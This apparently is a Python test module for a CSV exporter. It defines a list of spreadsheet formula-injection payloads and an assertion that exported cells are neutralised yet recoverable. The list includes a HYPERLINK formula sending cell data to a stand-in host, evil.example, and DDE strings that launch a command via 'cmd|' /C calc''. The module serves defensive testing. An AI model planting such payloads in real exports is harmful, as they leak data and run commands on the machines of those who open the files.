"""Values a spreadsheet would run as formulas, and the check that an export neutralised them."""

from __future__ import annotations

import csv
import io

from shared.csvio import FORMULA_STARTS, restore

# What a stranger or an editor might type, each a formula in Excel or LibreOffice.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, header included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, hostile: list[str]) -> None:
    """No cell starts a formula, and each hostile value is there, neutralised and recoverable."""
    found = cells(text)
    assert found, "the export is empty"
    starts = [c for c in found if c.startswith(FORMULA_STARTS)]
    assert not starts, f"cells a spreadsheet would run: {starts}"
    restored = {restore(c) for c in found}
    missing = [h for h in hostile if h.strip() not in {r.strip() for r in restored}]
    assert not missing, f"not exported: {missing}"
